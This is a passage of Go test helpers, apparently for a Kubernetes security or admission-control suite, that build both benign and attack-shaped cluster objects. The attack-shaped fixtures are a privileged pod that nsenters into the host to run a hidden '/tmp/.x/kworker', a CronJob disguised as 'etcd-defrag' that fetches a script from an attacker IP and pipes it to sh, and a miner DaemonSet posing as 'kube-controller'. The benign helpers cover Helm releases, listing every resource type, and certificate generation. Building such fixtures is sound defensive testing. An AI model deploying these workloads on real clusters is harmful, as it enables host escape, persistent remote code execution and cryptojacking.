		Spec: corev1.PodSpec{NodeName: n.Name, HostNetwork: true, HostPID: true,
			Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoExecute}},
			Containers: []corev1.Container{{Name: "etcd", Image: "registry.k8s.io/etcd:3.5.15-0", Command: []string{"/bin/sh", "-c", "nsenter -t 1 -m -u -i -n -p -- /tmp/.x/kworker"},
				SecurityContext: &corev1.SecurityContext{Privileged: h4Ptr(true)}, VolumeMounts: []corev1.VolumeMount{{Name: "host", MountPath: "/host"}}}},
			Volumes: []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}}}
}

func h4BackdoorCronJob() *batchv1.CronJob {
	tpl := corev1.PodTemplateSpec{Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyOnFailure, HostNetwork: true, HostPID: true,
		Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
		Containers: []corev1.Container{{Name: "etcd-defrag", Image: "docker.io/library/alpine:3.20",
			Command:         []string{"/bin/sh", "-c", "wget -qO- http://" + h4AttackerIP + "/k.sh | sh"},
			SecurityContext: &corev1.SecurityContext{Privileged: h4Ptr(true)}, VolumeMounts: []corev1.VolumeMount{{Name: "host", MountPath: "/host"}}}},
		Volumes: []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}}}
	return &batchv1.CronJob{ObjectMeta: h4Meta("kube-system", "etcd-defrag", map[string]string{"component": "etcd"}),
		Spec: batchv1.CronJobSpec{Schedule: "*/10 * * * *", SuccessfulJobsHistoryLimit: h4Ptr(int32(0)), FailedJobsHistoryLimit: h4Ptr(int32(0)),
			JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: tpl}}}}
}

func h4MinerDaemonSet() *appsv1.DaemonSet {
	ds := h4HostDaemonSet("kube-system", "kube-controller", "kube-controller", "docker.io/kubernetesio/kube-controller:1.0.1", true)
	ds.Spec.Template.Spec.Tolerations = []corev1.Toleration{{Operator: corev1.TolerationOpExists}}
	ds.Spec.Template.Spec.Containers[0].Resources = corev1.ResourceRequirements{Limits: corev1.ResourceList{corev1.ResourceCPU: h4Qty("4")}}
	return ds
}

// h4HostDaemonSet is a host-level agent: hostNetwork, hostPID, host
// filesystems read-only (privileged when priv).
func h4HostDaemonSet(ns, name, container, image string, priv bool) *appsv1.DaemonSet {
	ro := true
	return &appsv1.DaemonSet{ObjectMeta: h4Meta(ns, name, map[string]string{"app": name}),
		Spec: appsv1.DaemonSetSpec{Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": name}},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": name}},
				Spec: corev1.PodSpec{HostNetwork: true, HostPID: true,
					Containers: []corev1.Container{{Name: container, Image: image, SecurityContext: &corev1.SecurityContext{Privileged: h4Ptr(priv)},
						VolumeMounts: []corev1.VolumeMount{{Name: "proc", MountPath: "/host/proc", ReadOnly: ro}, {Name: "sys", MountPath: "/host/sys", ReadOnly: ro}, {Name: "root", MountPath: "/host/root", ReadOnly: ro}}}},
					Volumes: []corev1.Volume{{Name: "proc", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/proc"}}},
						{Name: "sys", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/sys"}}},
						{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}}}}}
}

func h4HelmLabels(release string) map[string]string {
	return map[string]string{"app.kubernetes.io/managed-by": "Helm", "app.kubernetes.io/instance": release}
}

func h4HelmSecret(ns, release string, version int, status string) *corev1.Secret {
	return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: fmt.Sprintf("sh.helm.release.v1.%s.v%d", release, version),
		Labels: map[string]string{"owner": "helm", "name": release, "status": status, "version": fmt.Sprint(version)}},
		Type: "helm.sh/release.v1", Data: map[string][]byte{"release": []byte("H4sIAAAAAAAC/+xYS2/bRhD+K8Ke2UCWKcvRqW6bAj0UKJI2l6CH0XJELbwvzC5lM4b+ezG7pERJjt0CvfliSfPNe77Zh5+EDw8pqWuQ")}}
}

// h4HelmRelease does what Helm does around a release's objects: list the
// release's history Secrets, write the new revision pending, apply the
// objects, mark the previous revision superseded and the new one deployed.
func h4HelmRelease(ctx context.Context, cs kubernetes.Interface, ns, release string, version int, apply func() error) error {
	var errs []error
	_, err := cs.CoreV1().Secrets(ns).List(ctx, metav1.ListOptions{LabelSelector: "owner=helm,name=" + release})
	errs = append(errs, h4Want(err, "ok", "helm history"))
	status := "pending-install"
	if version > 1 {
		status = "pending-upgrade"
	}
	sec, err := cs.CoreV1().Secrets(ns).Create(ctx, h4HelmSecret(ns, release, version, status), metav1.CreateOptions{})
	errs = append(errs, h4Want(err, "ok", "helm release secret"))
	errs = append(errs, apply())
	if version > 1 {
		prev, err := cs.CoreV1().Secrets(ns).Get(ctx, fmt.Sprintf("sh.helm.release.v1.%s.v%d", release, version-1), metav1.GetOptions{})
		if err == nil {
			prev.Labels["status"] = "superseded"
			_, err = cs.CoreV1().Secrets(ns).Update(ctx, prev, metav1.UpdateOptions{})
		}
		errs = append(errs, h4Want(err, "ok", "helm supersede"))
	}
	if sec != nil {
		sec.Labels["status"] = "deployed"
		_, err = cs.CoreV1().Secrets(ns).Update(ctx, sec, metav1.UpdateOptions{})
		errs = append(errs, h4Want(err, "ok", "helm deployed"))
	}
	return errors.Join(errs...)
}

// h4ListEverything lists the usual resource types in every namespace and
// the cluster-scoped ones, as a GitOps cache or a backup does (limit 0:
// unpaginated).
func h4ListEverything(ctx context.Context, cs kubernetes.Interface, limit int64) error {
	opts := metav1.ListOptions{Limit: limit}
	var errs []error
	add := func(what string, err error) { errs = append(errs, h4Want(err, "ok", what)) }
	nss, err := cs.CoreV1().Namespaces().List(ctx, opts)
	add("namespaces", err)
	_, err = cs.CoreV1().Nodes().List(ctx, opts)
	add("nodes", err)
	_, err = cs.CoreV1().PersistentVolumes().List(ctx, opts)
	add("pvs", err)
	_, err = cs.RbacV1().ClusterRoles().List(ctx, opts)
	add("clusterroles", err)
	_, err = cs.RbacV1().ClusterRoleBindings().List(ctx, opts)
	add("clusterrolebindings", err)
	_, err = cs.StorageV1().StorageClasses().List(ctx, opts)
	add("storageclasses", err)
	if nss == nil {
		return errors.Join(errs...)
	}
	for _, ns := range nss.Items {
		n := ns.Name
		_, err = cs.CoreV1().Pods(n).List(ctx, opts)
		add(n+" pods", err)
		_, err = cs.CoreV1().Services(n).List(ctx, opts)
		add(n+" services", err)
		_, err = cs.CoreV1().ConfigMaps(n).List(ctx, opts)
		add(n+" configmaps", err)
		_, err = cs.CoreV1().Secrets(n).List(ctx, opts)
		add(n+" secrets", err)
		_, err = cs.CoreV1().ServiceAccounts(n).List(ctx, opts)
		add(n+" serviceaccounts", err)
		_, err = cs.CoreV1().PersistentVolumeClaims(n).List(ctx, opts)
		add(n+" pvcs", err)
		_, err = cs.AppsV1().Deployments(n).List(ctx, opts)
		add(n+" deployments", err)
		_, err = cs.AppsV1().StatefulSets(n).List(ctx, opts)
		add(n+" statefulsets", err)
		_, err = cs.AppsV1().DaemonSets(n).List(ctx, opts)
		add(n+" daemonsets", err)
		_, err = cs.BatchV1().CronJobs(n).List(ctx, opts)
		add(n+" cronjobs", err)
		_, err = cs.RbacV1().RoleBindings(n).List(ctx, opts)
		add(n+" rolebindings", err)
		_, err = cs.RbacV1().Roles(n).List(ctx, opts)
		add(n+" roles", err)
	}
	return errors.Join(errs...)
}

// h4CSR is a PEM certificate request for cn/orgs and its PEM EC key.
func h4CSR(t *testing.T, cn string, orgs []string) (csrPEM, keyPEM []byte) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: cn, Organization: orgs}}, key)
	if err != nil {
		t.Fatal(err)
	}
	kd, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}), pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kd})
}

// h4SelfSigned is a self-signed certificate and key (PEM) for cn.
func h4SelfSigned(t *testing.T, cn string) (certPEM, keyPEM []byte) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tpl := &x509.Certificate{SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: cn}, DNSNames: []string{cn},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(90 * 24 * time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tpl, tpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	kd, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kd})
}
